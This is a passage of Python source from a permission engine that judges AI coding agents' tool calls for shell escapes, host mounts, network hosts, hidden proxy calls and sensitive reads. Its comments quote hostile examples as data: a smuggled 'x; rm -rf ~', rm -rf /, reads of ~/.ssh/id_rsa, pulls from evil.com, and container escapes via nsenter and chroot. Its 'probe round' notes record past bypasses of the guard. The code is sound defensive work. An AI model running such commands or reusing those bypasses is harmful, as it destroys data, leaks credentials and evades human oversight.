                    nxt if w in ("-v", "--volume", "--mount") else w[2:] if w.startswith("-v") and len(w) > 2 else None
                if vol is not None and _host_mount(vol, home):
                    return " ".join(c.argv[:2]) + " " + w + ("" if "=" in w or len(w) > 2 and w.startswith("-v") else " " + nxt)
    return None


_SETTING_BEFORE = re.compile(r"(?:^|[\s;&|(])[A-Z_][A-Z0-9_]*$")


def shell_escape(command: str) -> str | None:
    """The text by which a command starts a shell with no command of its own, or None
    (a shell given -c '...' or a script file runs what it was given)."""
    if "sh" not in command:
        return None
    for m in _SHELL_ESCAPE.finditer(command):
        if m.group(0)[:1] == "=" and _SETTING_BEFORE.search(command, max(0, m.start() - 40), m.start()) is not None:
            continue   # SHELL=/bin/bash, make SHELL=/bin/sh: a setting that names a shell
        if _SHELL_GIVEN.match(command, m.end(), m.end() + 200) is None:
            return m.group(0).strip()[:80]
    return None


# (round 36, coldtools36: cost) a regex test of a tool's name or a part of it (its server,
# its last word), remembered per pattern and name: the name tests a call makes (a disk
# writer's, a fetcher's, a hosted server's, a patcher's...) cost microseconds each in Python's
# re (case-insensitive alternations, no literal prefix) and the same few names come again and
# again. The search's own result (a match or None) is what is kept; long names are not kept.
_NAME_SEARCHES: dict[tuple[int, str], Any] = {}
_NAME_SEARCH_LIMIT = 8192
_NAME_SEARCH_TEXT = 256


def _name_search(rx: re.Pattern[str], name: str) -> re.Match[str] | None:
    if len(name) > _NAME_SEARCH_TEXT:
        return rx.search(name)
    key = (id(rx), name)   # (the patterns are the module's own: their ids stay theirs)
    m = _NAME_SEARCHES.get(key, _MISSING)
    if m is _MISSING:
        m = rx.search(name)
        if len(_NAME_SEARCHES) >= _NAME_SEARCH_LIMIT:
            _NAME_SEARCHES.clear()
        _NAME_SEARCHES[key] = m
    return m


@lru_cache(maxsize=4096)
def _vcs_tool(tool: str) -> bool:
    """Whether a tool's name says version control (its commit and tag messages are words
    for people); by name, remembered as _tool_traits are."""
    return _VCS_TOOL.search(tool) is not None


@lru_cache(maxsize=4096)
def _tool_traits(tool: str) -> tuple[bool, bool, bool, bool]:
    """(runner, prose_tool, searcher, sql_name) of another tool, by its name (they
    repeat: remembered). A runner may type or run its text; a prose tool's prose keys
    are words for people (an issue, a chat, a page) or a search's; a searcher's "query"
    is words; a SQL name says SQL may run."""
    runner = _TEXT_RUNNER_TOOL.search(tool) is not None
    searcher = _SEARCH_TOOL.search(tool) is not None
    # words for people or for a search only where the tool's name says it posts or
    # searches (an issue, a chat, a page, a search); any other tool's words may be
    # typed or run (a terminal's write, a notebook's cell, a form fill)
    sql_name = _SQL_TOOL.search(tool.replace("query", "") if searcher else tool) is not None
    # (a database tool's text is SQL, whatever else its name holds: mcp__postgres__query)
    prose_tool = not runner and not sql_name and tool.startswith("mcp__") and (
        _PROSE_TOOL.search(tool) is not None or searcher)
    return runner, prose_tool, searcher, sql_name


_DELETE_WITHOUT_FROM = re.compile(r"(?is)\s*delete\s+(?!from\b)")
# a tool whose name says its text is a shell's or a command-line program's words
_CLI_TOOL = re.compile(r"(?i)(?:^|[_\-.])(?:shell|bash|zsh|terminal|console|cli|kube\w*|kubectl|k8s|helm|docker\w*|"
                       r"podman|git|gh|aws|gcloud|az|oc)(?=$|[_\-.])")


@lru_cache(maxsize=4096)
def _sql_arg(key: Any, searcher: bool) -> bool:
    """An argument that may hold SQL (a search tool's query is words for a search)."""
    return isinstance(key, str) and _sql_key(key) and not (searcher and key.lower() in ("query", "q"))


def _sql_key(key: str) -> bool:
    return _SQL_TOOL.search(key) is not None


@lru_cache(maxsize=4096)
def _writes_name(tool: str) -> bool:
    return _WRITE_TOOL_NAME.search(tool) is not None


@lru_cache(maxsize=4096)
def _deletes_name(tool: str) -> bool:
    return _DELETE_TOOL_NAME.search(tool) is not None


# a tool that runs its commands on another machine: over ssh, in a container or a pod, in a
# VM or a cloud shell (probe round 23); a word of its server's or its own name
_REMOTE_SHELL_TOOL = re.compile(r"(?i)(?:^|[_\-.])(?:ssh\w*|sftp|remote\w*|docker\w*|podman|containers?|kube\w*|"
                                r"k8s|kubectl|pods?|lxc|incus|vagrant|ec2|ssm|codespaces?|cloud_?shell)(?=$|[_\-.])")


@lru_cache(maxsize=4096)
def _remote_shell(tool: str) -> bool:
    return _REMOTE_SHELL_TOOL.search(tool) is not None


@lru_cache(maxsize=4096)
def _shell_traits(tool: str) -> tuple[bool, str, bool]:
    """(browser, runner, terminal) of another tool, by its name: a browser's "script" is
    the page's; a code runner's code is an interpreter's (runner: the tool's name, its
    language hint); what a terminal tool types is shell."""
    browser = _BROWSER_TOOL.search(tool) is not None
    runner = tool if not browser and _CODE_RUNNER_TOOL.search(tool.split("__")[-1]) else ""
    terminal = not browser and _TERMINAL_TOOL.search(tool) is not None
    return browser, runner, terminal

_MODE_RANK = {m: i for i, m in enumerate(MODES)}
_MCP_RESOURCE_READER = "ReadMcpResourceTool"
_GLOB_SPLIT = re.compile(r"[\s,]+")
# a call that runs an argv given as a list (shell._ARGV_SINK_RE's names), and JavaScript's files
_ARGV_SINK_HINT = re.compile(r"\b(?:subprocess\.\w+|Popen|execv[pe]*|spawnSync|spawn|execFileSync|execFile|"
                             r"os\.exec\w*|Command::new|System\.cmd)\s*\(\s*(?:\[|['\"][^'\"\n]*['\"]\s*,\s*\[)")
# (a word each alternative of _ARGV_SINK_HINT holds, as written: it is case-sensitive)
_ARGV_SINK_WORDS = ("exec", "spawn", "Popen", "subprocess.", "Command::new", "System.cmd")
_ARGV_CALL_SPAN = 400   # characters after a call's start its argv list may span
# (probe round 35, tools35) process starters of other languages that take the argv as
# separate arguments, not as one list: Go's exec.Command("rm", "-rf", "/") (CommandContext
# after its context), Java's new ProcessBuilder(...) and exec(new String[]{...}), Ruby's,
# Perl's and PHP's system/exec/spawn with more than one argument, Python's os.spawnl*/execl*
# (after the mode), nox's session.run, Deno.Command's args, Rust's Command::new(..).arg(..)
# and .args([..]) chains; each is read as the argv list it is (subprocess.run([...]))
_ARGV_VARARGS_HINT = re.compile(
    r"\bexec\.Command(?P<ctx>Context)?\s*\(|\bnew\s+ProcessBuilder\s*\(|"
    r"\.exec\s*\(\s*new\s+String\s*\[\s*\]\s*(?P<jarr>\{)|"
    r"(?<![\w.])(?:system|exec|spawn|Process\.spawn|proc_open|pcntl_exec)\s*\((?=\s*['\"][^'\"\n]*['\"]\s*,)|"
    r"\bos\.(?P<spawn>spawnl\w*|execl\w*)\s*\(|\bsession\.run(?:_always)?\s*\(|"
    r"\bnew\s+Deno\.Command\s*\(|\bCommand::new\s*\((?P<rust>)")
# a word each of _ARGV_VARARGS_HINT's alternatives holds: the regex (no literal prefix, a
# lookbehind at every position: ~120 µs over 1 KB of text) runs only when one is there
_ARGV_VARARGS_WORDS = ("exec", "Command", "ProcessBuilder", "system", "spawn", "proc_open", "session.run")
_RUST_ARG = re.compile(r"\s*\.\s*(arg|args)\s*\(\s*(?:&\s*|vec!\s*)?")


def _balanced(text: str, i: int, end: int) -> int:
    """The index just past the bracket that closes the one opened before ``text[i]``
    (quotes respected), or ``end`` when it does not close before it."""
    depth, j, quote = 1, i, ""
    while j < end:
        ch = text[j]
        if quote:
            if ch == "\\":
                j += 1
            elif ch == quote:
                quote = ""
        elif ch in "'\"`":
            quote = ch
        elif ch in "([{":
            depth += 1
        elif ch in ")]}":
            depth -= 1
            if depth == 0:
                return j + 1
        j += 1
    return end


def _top_level_items(inner: str) -> list[str]:
    """The comma-separated items of a call's or a list's inside, at its own depth."""
    items, depth, quote, start = [], 0, "", 0
    for j, ch in enumerate(inner):
        if quote:
            if ch == quote and inner[j - 1] != "\\":
                quote = ""
        elif ch in "'\"`":
            quote = ch
        elif ch in "([{":
            depth += 1
        elif ch in ")]}":
            depth -= 1
        elif ch == "," and depth == 0:
            items.append(inner[start:j].strip())
            start = j + 1
    items.append(inner[start:].strip())
    return [x for x in items if x]


def _unlisted(item: str) -> list[str]:
    """A list literal's items ([..], {..}, &[..], vec![..]); any other item as it is."""
    x = item.lstrip("&").strip()
    if x.startswith("vec!"):
        x = x[4:].strip()
    if x[:1] in "[{" and x[-1:] in "]}":
        inner = _top_level_items(x[1:-1])
        # (Deno.Command's options: {args: [...], cwd: ...} gives its args)
        given = [i for i in inner if _ARGS_OPTION.match(i)]
        return _unlisted(_ARGS_OPTION.sub("", given[0], count=1)) if given else inner
    return [item]


_ARGS_OPTION = re.compile(r"['\"]?args['\"]?\s*:\s*")


def _notebook_code(text: str) -> str | None:
    """The code cells' sources of a notebook's JSON text, one after another; None when
    the text is no notebook (then it is read whole)."""
    if len(text) > 4_000_000 or text.lstrip()[:1] != "{":
        return None
    try:
        doc = json.loads(text)
    except ValueError:
        return None
    cells = doc.get("cells") if isinstance(doc, dict) else None
    if not isinstance(cells, list) or not all(isinstance(c, dict) for c in cells):
        return None
    out = []
    for c in cells:
        if str(c.get("cell_type", "code")) in ("markdown", "raw"):
            continue
        src = c.get("source", "")
        out.append("".join(x for x in src if isinstance(x, str)) if isinstance(src, list) else str(src))
    return "\n".join(out)


def _varargs_argv(text: str) -> list[str]:
    """Each process starter call of _ARGV_VARARGS_HINT in ``text`` as the Python argv list
    call it amounts to (subprocess.run(["rm", "-rf", "/"])), at most 64."""
    out: list[str] = []
    for m in itertools.islice(_ARGV_VARARGS_HINT.finditer(text), 64):
        end = min(len(text), m.end() + _ARGV_CALL_SPAN)
        close = _balanced(text, m.end(), end)
        items = _top_level_items(text[m.end():close - 1] if close < end or text[close - 1:close] in ")}" else
                                 text[m.end():close])
        if m.group("ctx") is not None or m.group("spawn", ) and m.group("spawn").startswith("spawn"):
            items = items[1:]   # (the context; spawnl's mode)
        if m.group("rust") is not None:
            j = close
            while j < end:
                a = _RUST_ARG.match(text, j)
                if a is None:
                    break
                k = _balanced(text, a.end(), end)
                inner = text[a.end():k - 1]
                items.extend(_unlisted(inner) if a.group(1) == "args" else [inner.strip()])
                j = k
        argv = [x for it in items for x in _unlisted(it)]
        if len(argv) >= 2 and argv[0][:1] in "'\"`":
            out.append("subprocess.run([" + ", ".join(argv) + "])")
    return out
def _call_end(text: str, i: int) -> int:
    """Where the call starting at ``text[i]`` ends: its brackets closed (within
    _ARGV_CALL_SPAN characters), to the end of that line."""
    depth, j, n = 0, i, min(len(text), i + _ARGV_CALL_SPAN)
    while j < n:
        ch = text[j]
        if ch in "([{":
            depth += 1
        elif ch in ")]}":
            depth -= 1
            if depth <= 0:
                break
        j += 1
    end = text.find("\n", j)
    return len(text) if end < 0 else end


_NODE_SOURCE = re.compile(r"\.(?:[cm]?js|jsx|[cm]?ts|tsx)$", re.I)
# ripgrep's own file types (rg --type-list), the common ones: the Grep tool's ``type``
# searches the files these globs pick, nothing else
_RG_TYPES = {
    "py": "*.py,*.pyi", "python": "*.py,*.pyi", "js": "*.js,*.jsx,*.mjs,*.cjs,*.vue",
    "ts": "*.ts,*.tsx,*.cts,*.mts", "typescript": "*.ts,*.tsx,*.cts,*.mts", "rust": "*.rs", "go": "*.go",
    "java": "*.java,*.jsp,*.jspx,*.properties", "c": "*.c,*.h,*.H,*.cats", "cpp": "*.cpp,*.cc,*.cxx,*.hpp,*.hh,*.hxx,*.h,*.inl",
    "rb": "*.rb,*.gemspec,Gemfile,Rakefile", "ruby": "*.rb,*.gemspec,Gemfile,Rakefile", "php": "*.php,*.php3,*.php4,*.php5,*.phtml",
    "cs": "*.cs", "csharp": "*.cs", "kotlin": "*.kt,*.kts", "swift": "*.swift", "scala": "*.scala,*.sbt",
    "css": "*.css,*.scss", "html": "*.htm,*.html,*.ejs", "md": "*.md,*.markdown,*.mdx", "markdown": "*.md,*.markdown,*.mdx",
    "sql": "*.sql,*.psql", "lua": "*.lua", "dart": "*.dart", "elixir": "*.ex,*.eex,*.exs,*.heex,*.leex",
    "haskell": "*.hs,*.lhs,*.cpphs,*.c2hs,*.hsc", "zig": "*.zig", "vue": "*.vue", "svelte": "*.svelte",
}


# a descriptor's link to whatever file a process has open (0: its standard input; 1 and 2,
# its output, are harmless sinks; /proc/PID/fdinfo/N is no link, a text of the descriptor's
# position and flags: probe round 35, benignnear35)
# (probe round 36, loosen36: a thread's own table, /proc/PID/task/TID/fd/N, links the same
# files, and /proc/PID/map_files/A-B links each file mapped in the process)
_OPEN_DESCRIPTOR = re.compile(r"/(?:dev/fd/(?:0|[3-9]|\d\d+)|proc/[^/]+/(?:task/[^/]+/)?(?:fd/\d+|map_files/[^/]+)"
                              r"|dev/stdin)")


@lru_cache(maxsize=256)
def _json_rule_items(json_text: str) -> tuple[tuple[str, str], ...]:
    """An exact-JSON rule's arguments, each with its value's canonical JSON as _loose_json
    spells it (a deny or ask rule's: strings in any case, blanks around them dropped)."""
    value = json.loads(json_text)
    return tuple((k, _loose_json(v)) for k, v in value.items()) if isinstance(value, dict) else ()


def _loose_json(v: Any) -> str:
    return canonical_json(v.strip() if isinstance(v, str) else v).casefold()


def _proc_cwd_words(a) -> list[str]:
    """The words of a command that name a path under a process' cwd link, as the
    /proc/self/cwd/... they are when that process is the agent's (a pid known only at run
    time, /proc/$PPID/cwd/x, as any pid)."""
    out: list[str] = []
    for c in a.commands:
        words = [(w, i in c.dynamic_args) for i, w in enumerate(c.argv[1:], 1)]
        words += [(r.target, False) for r in c.redirects if r.target]
        for w, dyn in words:
            if "/cwd" not in w or len(w) > 4096:
                continue
            w = w.split("=", 1)[1] if w.startswith("-") and "=" in w else w
            for g in (dynamic_globs(w) if dyn else (w,)):
                alias = other_cwd_alias(g)
                if alias:
                    out.append(alias)
    return out
_URL_IN_TEXT = re.compile(r"(?i)\bhttps?:[^\s\"'<>]+")
# a fetcher's operand that names a host without a scheme (curl -s example.com/x)
_BARE_HOST = re.compile(r"(?:[^@/\s]*@)?([A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+)*\.[A-Za-z]{2,63}\.?)(?::\d{1,5})?(?:[/?#]|$)")
_MAX_LEAVES = 10_000
_HOST_START = frozenset("/0123456789")
_NUMERIC_OPERAND = re.compile(r"((?:0x[0-9a-fA-F]*|\d+)(?:\.(?:0x[0-9a-fA-F]*|\d+)){0,3})(?::\d{1,5})?(?:[/?#]|$)")
# (probe round 48, rules48) the programs whose operands name a host a domain deny rule keeps:
# fetchers, name lookups (a DNS query reaches the domain's own servers: x.evil.com carries
# data), registry clients (docker pull evil.com/img); programs taking [user@]host:path
_HOST_OPERAND_PROGRAMS = NETWORK_FETCHERS | NAME_LOOKUPS | frozenset({
    "mosh", "autossh", "sshfs", "docker", "podman", "nerdctl", "buildah", "skopeo", "crane", "oras", "regctl"})
_REMOTE_SPEC_PROGRAMS = frozenset({"scp", "rsync", "sshfs", "sftp", "rcp", "unison", "socat", "socat1", "socat2",
                                   "lftp", "mosh", "autossh", "ssh", "git", "hub"})
_HOST_RE = r"[A-Za-z0-9_-]+(?:\.[A-Za-z0-9_-]+)*\.[A-Za-z]{2,63}\.?"
_REMOTE_SPEC = re.compile(r"(?:[^@/\s:]*@)?(" + _HOST_RE + r"):")
_SCHEME_HOST = re.compile(r"(?i)(?!https?://)[a-z][a-z0-9+.-]*://(?:[^@/\s]*@)?(" + _HOST_RE + r")")
_QUOTED_HOST = re.compile(r"[\"'`](?:[a-z]+://)?(" + _HOST_RE + r")(?::\d{1,5})?[/\"'`]")
_DEV_TCP_HOST = re.compile(r"/dev/(?:tcp|udp)/(" + _HOST_RE + r")/")
# (probe round 49, rules49) a proxy named by a setting (https_proxy=host:port before a
# command, export ALL_PROXY=..., wget -e https_proxy=..., --proxy host, git's http.proxy):
# every request goes through that host, scheme or none
_PROXY_SETTING = re.compile(r"(?i)(?:^|[\s.-])(?!no_?proxy)[\w.-]*proxy(?:[-_]?server)?\s*[=\s]\s*(.+)$", re.S)
_CONNECT_TO = re.compile(r"--connect-to[=\s]+['\"]?[^:\s]*:\d*:\[?(" + _HOST_RE + r")\]?:")
_PROXY_VALUE = re.compile(r"(?i)^(?:[a-z][a-z0-9+.-]*://)?(?:[^@/\s]*@)?(" + _HOST_RE + r")(?::\d{0,5})?(?:[/\s,;]|$)")


def effective_mode(agent_mode: str | None, request_mode: str | None) -> str:
    """The narrower of the agent's mode and the request's; an unknown mode is an error."""
    for m in (agent_mode, request_mode):
        if m is not None and m not in _MODE_RANK:
            raise EngineError(ERR_MODE.format(mode=m))
    mode = agent_mode or "default"
    if request_mode is not None and _MODE_RANK[request_mode] < _MODE_RANK[mode]:
        mode = request_mode
    return mode


def evaluate(snapshot: Snapshot, request: Request) -> Decision:
    """Decide one tool call (see the module docstring for the order)."""
    return _evaluate(snapshot, request, 0)


def _evaluate(snapshot: Snapshot, request: Request, depth: int, dialect: bool = True) -> Decision:
    if not isinstance(request.tool, str) or not request.tool.strip():
        raise EngineError(ERR_TOOL)
    if type(request.args) is not dict and not isinstance(request.args, Mapping):
        raise EngineError(ERR_ARGS)
    if request.cwd is not None and (not isinstance(request.cwd, str) or not (
            request.cwd.startswith("/") or windows_absolute(request.cwd))):
        raise EngineError(ERR_CWD)
    mode = effective_mode(request.agent_mode or snapshot.mode, request.mode)
    translatable = dialect and dialects.known(request.tool)
    key = _call_key(snapshot, request, mode)
    if key is not None:
        hit = snapshot.calls.get(key)
        if hit is not None:
            # (another agent's call: its session approvals are the call's as sent)
            return _replay(hit, request.tool if translatable else key[0], request.session_approvals)
    if translatable:
        try:
            calls = _dialect_calls(snapshot, request)
        except Exception as exc:  # fail closed
            return Decision(DENY, REASON_ENGINE_ERROR.format(error=type(exc).__name__), ENGINE_ERROR_CHECK, mode=mode)
        if calls is not None:
            decision = _evaluate_dialect(snapshot, request, mode, calls, depth)
            if key is not None and decision.check != SESSION_CHECK and decision.check != ENGINE_ERROR_CHECK:
                _remember(snapshot.calls, key, _fresh(decision), CALL_MEMO_LIMIT)
            return decision
        if depth < _HIDDEN_DEPTH and _dialect_named(snapshot, request.tool) and not _own_tool(snapshot, request.tool):
            # (probe round 51, rules51) a rule on another agent's tool gives it an identity
            # of its own, yet what it stands for still runs: a stage-1 denial of that call
            # (install_extension {"id": "x; rm -rf ~"} under an allow rule on it) holds, as
            # it does without the rule; no allow rule lifts a stage-1 denial
            try:
                stands = dialects.translate(request.tool, request.args, request.cwd) or ()
            except Exception:  # noqa: BLE001 - no translation: judged as the tool it is
                stands = ()
            for tool, args in stands[:8]:
                inner = _evaluate(snapshot, dataclasses.replace(
                    request, tool=tool, args=args, tool_hash=None, history=(), session_approvals=frozenset()),
                    depth + 1)
                if inner.decision == DENY and inner.check in _STAGE1_DENIALS:
                    return inner
    ev = _Evaluation(snapshot, request, mode, key[0] if key is not None else None)   # (the key's tool: canonical)
    ev.inner = depth > 0
    try:
        decision = ev.run()
        own_check = decision.check   # (before dont_ask's and explore's denial of an ask)
        decision = ev.stage3(decision)
        # (probe round 51, tools52) a pure proxy's call (the Docker MCP gateway's mcp-exec, a
        # gateway's call_tool: a tool's name, its arguments, a server's name, nothing else) is
        # the call it makes: that call's decision, not the proxy's own reading of its name
        # (mcp-exec on MCP_DOCKER read as a docker exec, asked whatever it called; explore's
        # denial of another tool); an operator's rule or a catastrophe on the proxy stands
        pure = own_check in _PROXY_OWN_CHECKS and ev.is_other and depth < _HIDDEN_DEPTH \
            and _pure_proxy(ev.tool, request.args)
        if (decision.decision != DENY or pure) and decision.check != SESSION_CHECK and ev.is_other:
            # the call a proxy tool makes ({"name": "write_file", "arguments": {...}}) and
            # arguments sent as JSON text ({"arguments": "{\"command\": ...}"}) are
            # judged as what they are: the stricter decision stands (a call a person
            # approved for the session, its arguments in the reason, stays approved)
            for tool, args in _hidden_calls(ev.tool, request.args):
                if depth >= _HIDDEN_DEPTH:
                    decision = ev.stage3(ev.decide(ASK, REASON_NESTED, "unparseable"))
                    break
                inner = _evaluate(snapshot, dataclasses.replace(
                    request, tool=tool, args=args, tool_hash=None, history=(), session_approvals=frozenset()),
                    depth + 1)
                if pure or _STRICTNESS[inner.decision] > _STRICTNESS[decision.decision]:
                    pure = False
                    decision = _new_decision(
                        inner.decision, inner.reason if tool == ev.tool else REASON_HIDDEN.format(tool=tool, reason=inner.reason),
                        inner.check, inner.rule,
                        tuple(ev.flags) + inner.flags, tuple(ev.events) + inner.threat_events, (), inner.llm,
                        inner.bypass_immune, mode, inner.details)
                    if decision.decision == DENY:
                        break
                    # (a session approval of the ask the hidden call made covers it next time)
                    decision = _replay(decision, ev.tool, request.session_approvals)
                elif inner.decision == ASK and decision.decision == ASK and decision.suggestions:
                    # the call it makes asks too: a rule for the call as sent would not do
                    decision = _new_decision(decision.decision, decision.reason, decision.check, decision.rule,
                                             decision.flags, decision.threat_events, (), decision.llm,
                                             decision.bypass_immune, decision.mode, decision.details)
        if decision.decision != DENY and ev.is_other and depth < _HIDDEN_DEPTH \
                and type(request.args) is dict and ("image" in request.args or "Image" in request.args) \
                and snapshot.bash_tools:
            # (probe round 32, mcp32) a container tool's run with host mounts and a command is
            # also read as the docker run line it stands for; only its denial counts, as BYPASS
            # reads it (the tool's own asks stand: a container run asks as an infrastructure
            # change; an ask the line makes is no denial, in dont_ask either)
            line = _container_run_line(ev.tool, request.args)
            if line is not None:
                inner = _evaluate(snapshot, dataclasses.replace(
                    request, tool=next(iter(sorted(snapshot.bash_tools))), args={"command": line}, tool_hash=None,
                    history=(), session_approvals=frozenset(), agent_mode=BYPASS, mode=BYPASS), depth + 1)
                if inner.decision == DENY:
                    decision = _new_decision(DENY, REASON_HIDDEN.format(tool=line[:200], reason=inner.reason),
                                             inner.check, inner.rule, tuple(ev.flags) + inner.flags,
                                             tuple(ev.events) + inner.threat_events, (), inner.llm,
                                             inner.bypass_immune, mode, inner.details)
                elif inner.decision == ASK and decision.decision == ALLOW:
                    # (probe round 34, residuals35) an ask BYPASS keeps (a shell on the host's
                    # namespaces: nsenter -t 1 -a sh with --pid host, chroot /host sh) asks here too;
                    # an allow rule lifts it as it lifts the line's (Bash(docker run:*))
                    decision = _new_decision(ASK, REASON_HIDDEN.format(tool=line[:200], reason=inner.reason),
                                             inner.check, inner.rule, tuple(ev.flags) + inner.flags,
                                             tuple(ev.events) + inner.threat_events, (), inner.llm,
                                             inner.bypass_immune, mode, inner.details)
                elif inner.decision == ASK and decision.decision == ASK and decision.suggestions:
                    # the line it stands for asks too (docker run --privileged): a rule for
                    # the call as sent would leave that ask standing, so none is offered
                    decision = _new_decision(decision.decision, decision.reason, decision.check, decision.rule,
                                             decision.flags, decision.threat_events, (), decision.llm,
                                             decision.bypass_immune, decision.mode, decision.details)
    except EngineError:
        raise
    except Exception as exc:  # fail closed
        return Decision(DENY, REASON_ENGINE_ERROR.format(error=type(exc).__name__), ENGINE_ERROR_CHECK,
                        mode=mode, flags=tuple(ev.flags), threat_events=tuple(ev.events))
    if key is not None and decision.check != SESSION_CHECK:
        # (a call a session approval allowed is kept out: the memo holds what the call
        # gets without approvals, and _replay applies them)
        _remember(snapshot.calls, key, _fresh(decision), CALL_MEMO_LIMIT)
    return decision


# --- other agents' tools (dialects.py) ----------------------------------------------------
# The Claude Code tool each translated call becomes must be of its class in this policy.
_DIALECT_CLASS = {"Bash": "bash", "Read": "read", "LS": "read", "Grep": "read", "Glob": "read", "TodoWrite": "read",
                  "WebSearch": "read", "ReadMcpResourceTool": "read", "BashOutput": "read", "AskUserQuestion": "read",
                  "Write": "edit", "Edit": "edit", "MultiEdit": "edit", "NotebookEdit": "edit", "WebFetch": None,
                  "apply_patch": None, "Task": "read", "ExitPlanMode": "read", "KillShell": None}


# the checks whose denial no rule lifts (stage 1 and seed 000's deny list)
_STAGE1_DENIALS = frozenset({"destructive_pattern", "dangerous_command", "threat_rule"})


def _own_tool(s: Snapshot, tool: str) -> bool:
    """Is the tool one of this policy's own (Claude Code's Bash, Read, Edit... by any name)?"""
    t = _canonical_tool(tool, s)
    return t in s.bash_tools or t in s.read_tools or t in s.edit_tools or t in ("WebFetch", "WebSearch", "Task")


def _dialect_named(s: Snapshot, tool: str) -> bool:
    """Does the policy give another agent's tool an identity of its own (revoked,
    registered, a sequence contract, an operator rule or guard on its name, registration
    required, one of this policy's own tool names)? Then it is judged as another tool."""
    key = ("dialect-named", tool)
    named = s.memo.get(key)
    if named is None:
        folded = dialects.canon(tool)
        names = set(s.bash_tools) | set(s.read_tools) | set(s.edit_tools) | {"WebFetch", "WebSearch", "Task"}
        # (a rule on the Claude Code tool the call stands for, WebFetch(domain:x) for
        # Gemini's web_fetch, does not name it: the translated call meets that rule; it
        # made web_fetch another tool, whose prompt's localhost URL went unread: published2)
        named = s.require_registration or _canonical_tool(tool, s) in names or any(
            dialects.canon(n) == folded for n in (*s.revoked, *s.tools, *s.contracts)) or any(
            (dialects.canon(rule.tool) == folded or rule.covers_tool(tool, loose=True)) and rule.tool not in names
            for rule in (*s.deny_rules, *s.ask_rules, *s.allow_rules)) or any(
            any(dialects.canon(t) == folded for t in g.tools) for g in s.guards)
        _remember(s.memo, key, named)
    return named


def _dialect_calls(s: Snapshot, r: Request) -> list[tuple[str, dict]] | None:
    """The Claude Code calls another agent's tool call stands for (dialects.py), when the
    policy gives that tool no identity of its own: not revoked, registered, under a
    sequence contract or an operator rule or guard by its name, no registration required,
    not one of this policy's own tool names; else None (it is judged as another tool)."""
    tool = r.tool
    if _dialect_named(s, tool):
        return None
    if dialects.agent_server(tool) is not None and _unguarded_agent_call(tool, r.args) is not None:
        return None   # (its approvals off: another tool's call, asked in every mode below)
    calls = dialects.translate(tool, r.args, r.cwd)
    if not calls:
        return None
    classes = {"bash": s.bash_tools, "read": s.read_tools, "edit": s.edit_tools}
    for name, _args in calls:
        cls = _DIALECT_CLASS.get(name, "?")
        if cls == "?" or (cls is not None and name not in classes[cls]):
            return None
    # another agent's file read meets the sensitive paths as a shell read does (Claude
    # Code's own Read reads freely, seed 000; read_file ~/.ssh/id_rsa from Gemini or Cline
    # asks, as an MCP server's read_file does)
    reads = [dialects.sh_path(p) for name, a in calls if name == "Read" and isinstance(p := a.get("file_path"), str) and p]
    # (probe round 28) and so does its search of a file or of the files a glob picks
    # (read_many_files {"paths": ["~/.ssh/id_rsa"]}, grep_search {"include_pattern": "*.env"}
    # were allowed: Grep calls); a search of a whole directory stays as Claude Code's Grep
    reads += [w for name, a in calls if name == "Grep" for w in dialects.searched_words(a)]
    if reads and "Bash" in s.bash_tools:
        calls = calls + [("Bash", {"command": "cat -- " + w}) for w in reads]
    return calls


_TYPED_PROGRAM = re.compile(r"""(?i)^[&.]?\s*['"]?(?:[\w:.-]*[\\/])*([\w.+-]+?)(?:\.exe|\.com)?['"]?$""")


def _typed_programs(code: str) -> list[tuple[str, ...]]:
    """(probe round 52, pwsh52) The statements of a PowerShell line as typed, each program's
    name bare (C:\\Windows\\System32\\cmd.exe, & 'cmd.exe' are cmd), for deny and ask rules only."""
    out = []
    for w in words_of_unparsed(code.replace("\\", "/")):
        k = 1 if w[0] in ("&", ".") and len(w) > 1 else 0
        m = _TYPED_PROGRAM.match(w[k])
        if m:
            out.append((m.group(1).lower(),) + w[k + 1:])
    return out


def _evaluate_dialect(s: Snapshot, r: Request, mode: str, calls: list[tuple[str, dict]], depth: int) -> Decision:
    """Another agent's call decided as the Claude Code calls it stands for: the strictest
    of them. Threat rules still meet the call as sent (its tool name, its arguments); a
    session approval of the call as sent covers the same ask again."""
    flags: tuple = ()
    events: tuple = ()
    if s.threat_sets:
        ev = _Evaluation(s, r, mode)
        try:
            hit = ev.threat_rules()
        except Exception as exc:  # fail closed
            return Decision(DENY, REASON_ENGINE_ERROR.format(error=type(exc).__name__), ENGINE_ERROR_CHECK, mode=mode)
        if hit is not None:
            return ev.stage3(hit)
        flags, events = tuple(ev.flags), tuple(ev.events)
    approvals = r.session_approvals
    worst: Decision | None = None
    project = r.project_dir if r.project_dir is not None else r.cwd
    asks: list[Decision] = []
    for name, args in calls:
        mine = frozenset((name, reason) for t, reason in approvals if t == r.tool) if approvals else approvals
        d = _evaluate(s, dataclasses.replace(r, tool=name, args=args, session_approvals=mine, project_dir=project),
                      depth, dialect=False)
        if d.decision == ASK:
            asks.append(d)
        if worst is None or _STRICTNESS[d.decision] > _STRICTNESS[worst.decision]:
            worst = d
            if d.decision == DENY:
                break
    assert worst is not None
    if worst.decision == ASK and len(asks) > 1:
        # (probe round 51, lead) the rules a reviewer is offered cover every call asked about
        # (multi_replace_string_in_file of a project file and one outside: both files'
        # Edit rules), or none is offered: accepted, a suggestion allows the call it was for
        sugg = tuple(dict.fromkeys(x for d in asks for x in d.suggestions)) \
            if all(d.suggestions for d in asks) else ()
        worst = _new_decision(worst.decision, worst.reason, worst.check, worst.rule, worst.flags,
                              worst.threat_events, sugg, worst.llm, any(d.bypass_immune for d in asks), worst.mode,
                              worst.details)
    if flags or events:
        worst = _new_decision(worst.decision, worst.reason, worst.check, worst.rule,
                              flags + tuple(f for f in worst.flags if f not in flags),
                              events + tuple(e for e in worst.threat_events if e not in events), worst.suggestions, worst.llm, worst.bypass_immune,
                              worst.mode, worst.details)
    return worst


# --- calls inside a call: a proxy's, and arguments sent as JSON text ------------------------
_HIDDEN_DEPTH = 4
_STRICTNESS = {ALLOW: 0, ASK: 1, DENY: 2}
REASON_HIDDEN = "the call it makes ({tool}): {reason}"
REASON_NESTED = "calls nested deeper than are read (a proxy's proxy, JSON in JSON): it needs a person"
_PROXY_NAME_KEYS = ("name", "tool", "tool_name", "toolname", "function", "function_name", "method", "action")
_PROXY_ARGS_KEYS = ("arguments", "args", "input", "params", "parameters", "tool_input", "tool_args", "toolinput",
                    "toolargs", "kwargs", "payload")
_PROXY_NAME = re.compile(r"^[A-Za-z0-9_.:/\-]{1,128}$")
_JSON_TEXT = re.compile(r"^\s*(?:\{[\s\S]*\}|\[[\s\S]*\])\s*$")


